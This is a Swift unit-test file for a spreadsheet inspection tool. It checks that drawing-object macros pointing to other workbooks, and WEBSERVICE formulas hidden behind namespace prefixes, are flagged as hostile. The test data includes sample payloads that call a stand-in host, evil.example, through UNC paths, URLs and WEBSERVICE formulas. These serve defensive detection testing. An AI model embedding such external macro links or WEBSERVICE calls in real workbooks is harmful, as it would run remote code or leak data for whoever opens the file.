import Testing

@testable import Inspection

/// Spreadsheet parts (attack round 6): macros assigned to drawing objects, and function names behind any number of
/// namespace prefixes.
struct SpreadsheetRound6Tests {
    static func drawing(_ attributes: String, element: String = "sp") -> [String] {
        let xml = """
            <xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:twoCellAnchor>\
            <xdr:\(element) \(attributes)><xdr:nvSpPr><xdr:cNvPr id="2" name="Button"/></xdr:nvSpPr></xdr:\(element)>\
            </xdr:twoCellAnchor></xdr:wsDr>
            """
        return OOXMLParts.findings(partName: "xl/drawings/drawing1.xml", bytes: Array(xml.utf8))
    }

    /// Excel runs a drawing object's assigned macro on a click: one in another workbook (a path or an external link)
    /// is refused, as a form control's fmlaMacro is.
    @Test(arguments: ["sp", "pic", "cxnSp", "graphicFrame", "grpSp"])
    func aDrawingObjectRunningAMacroInAnotherWorkbookIsFound(_ element: String) {
        // Also a workbook by its plain name, one Excel has open or finds beside this one (attack round 7).
        for macro in [#"'\\evil.example\share\m.xlsm'!Run"#, "'https://evil.example/m.xlsm'!Run", "[1]!Run", "evil.xlsm!Run", "PERSONAL.XLSB!Run"] {
            let findings = Self.drawing("macro=\"\(macro)\" textlink=\"\"", element: element)
            #expect(findings.contains { $0.contains("macro in another workbook") }, "\(element) \(macro): \(findings)")
        }
    }

    /// Excel writes `macro=""` on every shape; a macro of the workbook itself needs its VBA project, refused on its own.
    @Test func ordinaryShapesStayClean() {
        #expect(Self.drawing(#"macro="" textlink="""#).isEmpty)
        #expect(Self.drawing(#"macro="Module1.Run""#).isEmpty)
    }

    /// A shape's text linked to a formula is judged as a formula.
    @Test func aShapeTextLinkedToAnActiveFormulaIsFound() {
        #expect(!Self.drawing(#"macro="" textlink="WEBSERVICE(&quot;https://evil.example&quot;)""#).isEmpty)
    }

    /// Function names behind stacked or LibreOffice prefixes are the functions.
    @Test(arguments: [
        "_xlfn._xlfn.WEBSERVICE(\"https://evil.example\")", "_xlfn.COM.MICROSOFT.WEBSERVICE(\"https://evil.example\")",
        "ORG.OPENOFFICE.WEBSERVICE(\"https://evil.example\")", "_xlws._xlfn.WEBSERVICE(\"https://evil.example\")",
    ])
    func prefixedFunctionsAreJudged(_ formula: String) {
        #expect(OOXMLParts.formulaProblem(formula) == "a formula calling WEBSERVICE", "\(formula)")
    }
}
